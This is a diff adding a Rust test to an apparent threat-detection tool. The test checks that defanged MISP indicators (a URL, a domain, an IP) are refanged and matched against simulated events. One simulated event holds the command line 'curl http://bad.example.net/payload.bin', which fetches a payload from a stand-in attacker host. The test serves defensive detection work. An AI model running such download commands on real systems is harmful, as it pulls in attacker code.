@@ -386,6 +386,49 @@ fn stix_round_trip_through_export() {
 }
 
 #[test]
+fn defanged_misp_values_are_refanged_and_match() {
+    // A defanged URL attribute loaded without a word and never matched
+    // (the same value in a plain list was refanged and matched).
+    let dir = tempfile::tempdir().unwrap();
+    let feed = dir.path().join("misp.json");
+    let attr = |n: u32, ty: &str, v: &str| {
+        format!(
+            r#"{{"uuid":"5e1f0000-0000-4000-8000-{n:012}","type":"{ty}","category":"Network activity","value":"{v}","to_ids":true}}"#
+        )
+    };
+    std::fs::write(
+        &feed,
+        format!(
+            r#"{{"Event":{{"uuid":"5e1f0000-0000-4000-8000-000000000000","info":"defanged","Attribute":[{},{},{}]}}}}"#,
+            attr(1, "url", "hxxp://bad[.]example[.]net/payload.bin"),
+            attr(2, "domain", "sub.bad[.]example[.]org"),
+            attr(3, "ip-dst", "203.0.113[.]77"),
+        ),
+    )
+    .unwrap();
+    let mut set = IocSet::new();
+    let r = set.load_path(&feed).unwrap();
+    assert_eq!(r.loaded, 3, "{:#?}", r.issues);
+    assert!(r.issues.is_empty(), "{:#?}", r.issues);
+    let a = |n: u32| format!("5e1f0000-0000-4000-8000-{n:012}");
+    assert_eq!(
+        hits(
+            &set,
+            &ev(&[("CommandLine", "curl http://bad.example.net/payload.bin")])
+        ),
+        [a(1)]
+    );
+    assert_eq!(
+        hits(&set, &ev(&[("QueryName", "sub.bad.example.org")])),
+        [a(2)]
+    );
+    assert_eq!(
+        hits(&set, &ev(&[("DestinationIp", "203.0.113.77")])),
+        [a(3)]
+    );
+}
+
+#[test]
 fn misp_event_loads_and_matches() {
     let mut set = IocSet::new();
     let r = set.load_path(&data("misp_event.json")).unwrap();
